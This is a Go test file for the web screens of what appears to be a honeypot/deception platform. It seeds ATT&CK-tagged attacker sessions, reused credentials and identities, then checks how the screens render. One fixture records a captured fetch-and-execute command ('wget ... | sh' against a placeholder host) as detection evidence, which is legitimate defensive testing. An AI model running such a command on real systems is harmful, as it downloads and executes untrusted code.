package web

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/attack"
	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/store"
)

// seedInsights adds, to the fixed seed, ATT&CK tags on 203.0.113.5, a
// credential reused on a second decky and service, and a stub identity for
// 203.0.113.5. It returns that attacker and the identity's id.
func (e *testEnv) seedInsights() (store.Attacker, string) {
	e.t.Helper()
	ctx := context.Background()
	a := e.seededAttacker()
	rel := attack.Default().Release
	tags := []store.Tag{
		{SourceKind: "command", SourceID: "0190a000-0000-7000-8000-000000000008", AttackerUUID: a.UUID, SessionID: "s1", DeckyID: "decky-01",
			Tactic: "TA0002", TechniqueID: "T1059", SubTechniqueID: "T1059.004", Confidence: 0.9, RuleID: "cmd.shell-pipe", RuleVersion: 2,
			Evidence: json.RawMessage(`{"command":"wget http://203.0.113.99/x.sh -O- | sh","matched":"| sh"}`), CreatedAt: testNow.Add(-36 * time.Minute)},
		{SourceKind: "command", SourceID: "0190a000-0000-7000-8000-000000000008", AttackerUUID: a.UUID, SessionID: "s1", DeckyID: "decky-01",
			Tactic: "TA0011", TechniqueID: "T1105", Confidence: 0.8, RuleID: "cmd.download", RuleVersion: 1,
			Evidence: json.RawMessage(`{"url":"http://203.0.113.99/x.sh"}`), CreatedAt: testNow.Add(-36 * time.Minute)},
		{SourceKind: "command", SourceID: "0190a000-0000-7000-8000-000000000007", AttackerUUID: a.UUID, SessionID: "s1", DeckyID: "decky-01",
			Tactic: "TA0007", TechniqueID: "T1082", Confidence: 0.7, RuleID: "cmd.sysinfo", RuleVersion: 1,
			Evidence: json.RawMessage(`{"command":"uname -a"}`), CreatedAt: testNow.Add(-37 * time.Minute)},
		{SourceKind: "login", SourceID: "0190a000-0000-7000-8000-000000000006", AttackerUUID: a.UUID, SessionID: "s1", DeckyID: "decky-01",
			Tactic: "TA0001", TechniqueID: "T1078", Confidence: 0.6, RuleID: "auth.valid-account", RuleVersion: 1,
			Evidence: json.RawMessage(`{"username":"root","outcome":"success"}`), CreatedAt: testNow.Add(-38 * time.Minute)},
	}
	for _, t := range tags {
		t.AttackRelease = rel
		if _, err := e.st.InsertTag(ctx, t); err != nil {
			e.t.Fatal(err)
		}
	}
	// The same root password on decky-02's telnet, from another address.
	x := event.New("decky-02", "telnet", event.TypeLoginAttempt)
	x.ID, x.Time, x.SrcIP, x.SrcPort, x.Session = "0190a000-0000-7000-8000-000000000100", testNow.Add(-4*time.Hour), "192.0.2.9", 41000, "t2"
	x.DstIP, x.Proto = "10.0.0.3", "tcp"
	x.Credential = event.NewCredential("root", "password", []byte("123456"), "failure")
	if _, err := e.st.IngestBatch(ctx, []event.Event{x}); err != nil {
		e.t.Fatal(err)
	}
	if _, err := e.st.RefreshCredentialReuse(ctx, time.Time{}); err != nil {
		e.t.Fatal(err)
	}
	id, err := e.st.EnsureStubIdentityForAttacker(ctx, a.UUID)
	if err != nil {
		e.t.Fatal(err)
	}
	return a, id
}

// TestInsightScreensGolden renders the TTP, credentials and identities
// screens and the TTP inspector, as a page and as a drawer fragment.
func TestInsightScreensGolden(t *testing.T) {
	e := newEnv(t)
	e.seed()
	a, identity := e.seedInsights()
	e.addUser("vera", roleViewer, false)
	b := e.browser()
	b.login("vera", testPassword)
	hide := strings.NewReplacer(identity, "IDENTITY", identity[:8]+"…", "IDENT…").Replace

	inspector := "/ui/attackers/" + a.UUID + "/ttp/T1059.004"
	cases := []struct {
		name, path string
		want       []string
	}{
		{"ttp", "/ui/ttp", []string{"Execution", "T1059", "Command and Scripting Interpreter", "heat-5", `href="/ui/ttp/T1105"`}},
		{"ttp_technique", "/ui/ttp/T1059.004", []string{"Unix Shell", "cmd.shell-pipe", "Inspect"}},
		{"ttp_inspector", inspector, []string{"cmd.shell-pipe v2", "0.90", "&#34;matched&#34;: &#34;| sh&#34;", `id="drawer-title"`}},
		{"attacker_ttp", "/ui/attackers/" + a.UUID, []string{`hx-get="` + inspector + `"`, `hx-target="#drawer"`, `id="drawer"`, "Unix Shell"}},
		{"credentials", "/ui/credentials", []string{"Reused across deckies and services", "decky-02", "telnet", "192.0.2.9", "admin&lt;script&gt;"}},
		{"identities", "/ui/identities", []string{`href="/ui/identities/IDENTITY"`}},
		{"identity", "/ui/identities/" + identity, []string{"203.0.113.5", "T1059.004"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rec := b.do("GET", tc.path, nil)
			if rec.Code != http.StatusOK {
				t.Fatalf("GET %s: %d\n%s", tc.path, rec.Code, rec.Body)
			}
			body := hide(rec.Body.String())
			for _, w := range tc.want {
				if !strings.Contains(body, w) {
					t.Errorf("GET %s lacks %q", tc.path, w)
				}
			}
			golden(t, tc.name, fragment(t, body))
		})
	}

	t.Run("drawer", func(t *testing.T) {
		rec := b.do("GET", inspector, nil, "HX-Request", "true", "HX-Target", "drawer")
		body := rec.Body.String()
		if rec.Code != http.StatusOK || strings.Contains(body, "<html") || strings.Contains(body, "<main") || !strings.Contains(body, "cmd.shell-pipe") {
			t.Fatalf("drawer fragment: %d\n%s", rec.Code, body)
		}
		golden(t, "ttp_inspector_drawer", normalize(body))
	})

	for _, path := range []string{
		"/ui/attackers/" + a.UUID + "/ttp/T9999",   // no tag
		"/ui/attackers/" + a.UUID + "/ttp/x<y",     // not a technique id
		"/ui/attackers/no-such-uuid/ttp/T1059.004", // no attacker
		"/ui/ttp/T9999",
		"/ui/identities/no-such-identity",
	} {
		if rec := b.do("GET", path, nil); rec.Code != http.StatusNotFound {
			t.Errorf("GET %s: %d, want 404", path, rec.Code)
		}
	}
	for _, path := range []string{"/ui/ttp", "/ui/credentials", "/ui/identities", inspector} {
		if rec := e.browser().do("GET", path, nil); rec.Code != http.StatusSeeOther {
			t.Errorf("GET %s without a session: %d", path, rec.Code)
		}
	}
}

// TestInsightScreensEmpty: a store with nothing tagged, reused or
// attributed renders each screen's empty state.
func TestInsightScreensEmpty(t *testing.T) {
	e := newEnv(t)
	e.addUser("vera", roleViewer, false)
	b := e.browser()
	b.login("vera", testPassword)
	for path, want := range map[string]string{
		"/ui/ttp":         "No technique has been tagged yet.",
		"/ui/credentials": "No credentials captured yet.",
		"/ui/identities":  "No identities yet",
	} {
		rec := b.do("GET", path, nil)
		if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), want) {
			t.Errorf("GET %s: %d, want %q", path, rec.Code, want)
		}
	}
}

// TestHeatLevels: the busiest technique is the darkest cell, one tag the
// lightest.
func TestHeatLevels(t *testing.T) {
	for _, c := range []struct{ count, max, want int }{{1, 1, 5}, {1, 10, 1}, {10, 10, 5}, {5, 10, 3}, {2, 10, 1}, {3, 10, 2}} {
		if got := 1 + (c.count*heatLevels-1)/max(c.max, 1); got != c.want {
			t.Errorf("heat(%d of %d) = %d, want %d", c.count, c.max, got, c.want)
		}
	}
}

// seededAttacker is the fixed seed's attacker at 203.0.113.5, which the
// insight and intel seeds build on.
func (e *testEnv) seededAttacker() store.Attacker {
	e.t.Helper()
	att, _, err := e.st.AttackersSorted(context.Background(), store.Page{Limit: 1, Search: "203.0.113.5"}, store.SortRecent)
	if err != nil || len(att) != 1 {
		e.t.Fatalf("seeded attacker: %v %v", att, err)
	}
	return att[0]
}
